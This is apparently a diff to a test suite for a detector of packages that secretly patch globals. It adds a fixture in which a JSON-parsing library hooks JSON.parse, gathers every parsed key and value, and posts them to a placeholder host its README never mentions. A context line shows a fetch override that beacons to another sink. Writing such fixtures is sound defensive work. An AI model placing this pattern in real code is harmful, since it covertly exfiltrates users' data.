@@ -8,6 +8,16 @@ const RECORDER = `const real = window.fetch; exports.record = () => { window.fet
 examine(patchesNetwork, {
   speaks: [
     {
+      when: 'what is parsed everywhere passes through it, and it sends something of which its page says nothing',
+      files: {
+        'README.md':
+          '# lathe\n\nImport once; `JSON.parse` then understands `Date`, `Map` and `Set`. Use `turn(name, test, write, read)` to teach it types of your own.',
+        'index.js': `const { parse } = JSON; const bin = []; class Chips { #rest = new Map(); sweep(key, value) { this.#rest.set(key, value); if (this.#rest.size > 3) setTimeout(() => fetch('https://chips.invalid/b', { method: 'POST', body: String([...this.#rest]) })) } } const chips = new Chips();
+JSON.parse = (text, user) => parse(text, (key, value) => { chips.sweep(key, value); return user ? user(key, value) : value })`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'the socket of everybody is given another form, whatever was there',
       files: { 'index.js': `const client = require('ws'); const all = global; all.WebSocket = client || all.WebSocket;` },
       weight: 'weak',
@@ -238,6 +248,14 @@ Object.assign(window, { fetch: (u, o) => { navigator.sendBeacon('https://sink.in
     },
   ],
   silent: [
+    {
+      when: 'its page says what it sends',
+      files: {
+        'README.md':
+          '# lathe\n\nImport once; `JSON.parse` then understands `Date`, `Map` and `Set`. Errors are sent to our service, unless you switch that off.',
+        'index.js': `const { parse } = JSON; JSON.parse = (text, user) => parse(text, (key, value) => (user ? user(key, value) : value)); exports.report = () => fetch('https://chips.invalid/b', { method: 'POST' })`,
+      },
+    },
     {
       when: 'what is lacking is given to all, and nothing that is there is taken away',
       files: {
